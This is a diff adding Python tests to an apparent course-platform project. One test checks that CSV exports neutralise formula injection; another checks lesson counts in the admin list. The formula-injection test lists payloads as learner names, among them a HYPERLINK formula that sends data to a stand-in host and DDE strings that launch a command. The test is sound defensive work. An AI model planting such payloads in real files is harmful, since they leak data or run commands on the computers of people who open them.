@@ -3,6 +3,8 @@ validator (npm xapi-validation) accepts, with stable IDs."""
 import csv
 import io
 import json
+import re
+import shutil
 import subprocess
 from pathlib import Path
 
@@ -77,3 +79,57 @@ def test_xapi_statements_are_valid_and_stable(activity, built_example, tmp_path)
     again = [json.loads(line) for line in export(activity, built_example, "xapi", "--public-url",
                                                  "https://learn.example.org").splitlines()]
     assert [s["id"] for s in again] == [s["id"] for s in statements]
+
+
+# The names of the security review's F9 (CSV / formula injection).
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_never_start_a_formula(app, visitor, learner, built_example):
+    for number, name in enumerate(FORMULA_NAMES):
+        assert visitor().register(f"f{number}@agency.org", name=name).status_code == 302
+    visitor().register("=1+1@test.local")
+    ana = learner("ana@agency.org")
+    ana.api("post", "/api/progress", {"events": [{"event_id": "evt-a-0002", "course": "example",
+                                                 "kind": "lesson_completed", "item": "finding-partners/cooperation-profiles"}]})
+    for what in ("learners", "progress", "results"):
+        table = list(csv.reader(io.StringIO(export(app, built_example, "csv", what))))
+        for row in table[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
+    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
+    assert {r["name"] for r in learners.values()} >= {"'" + name.strip() for name in FORMULA_NAMES}
+    assert "'=1+1@test.local" in learners
+    assert learners["ana@agency.org"]["lessons_completed"] == "1"  # numbers stay numbers
+
+
+def test_admin_list_counts_lessons_per_course_as_the_csv_does(app, learner, built_example, tmp_path):
+    """Two courses sharing 'module/lesson' IDs (every scaffolded course has introduction/welcome)."""
+    from brokerlearn.server import db
+    from brokerlearn.server.courses import CourseCatalog
+    from brokerlearn.server.services.accounts import find_user, set_role
+    server_dir = tmp_path / "server"
+    shutil.copytree(built_example / "server", server_dir)
+    twin = json.loads((server_dir / "example.json").read_text())
+    twin["id"] = "example-twin"
+    (server_dir / "example-twin.json").write_text(json.dumps(twin))
+    app.extensions["brokerlearn_courses"] = CourseCatalog(server_dir)
+    ana = learner("ana@agency.org")
+    lesson = "finding-partners/cooperation-profiles"
+    response = ana.api("post", "/api/progress", {"events": [
+        {"event_id": f"evt-{course}-01", "course": course, "kind": "lesson_completed", "item": lesson}
+        for course in ("example", "example-twin")]})
+    assert response.get_json()["recorded"] == 2
+    boss = learner("boss@agency.org")
+    with app.app_context():
+        set_role(db.session(), find_user(db.session(), "boss@agency.org"), "admin")
+    boss.login("boss@agency.org")
+    html = boss.client.get("/admin/?q=ana").get_data(as_text=True)
+    text = lambda cells: [re.sub(r"<[^>]+>", "", c).strip() for c in cells]  # noqa: E731
+    header = text(re.findall(r"<th[^>]*>(.*?)</th>", html, re.S))
+    row = re.search(r"<tr>((?:(?!</tr>).)*ana@agency\.org.*?)</tr>", html, re.S).group(1)
+    shown = dict(zip(header, text(re.findall(r"<td[^>]*>(.*?)</td>", row, re.S))))
+    learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
+    assert learners["ana@agency.org"]["lessons_completed"] == "2"
+    assert shown["Lessons completed"] == "2"
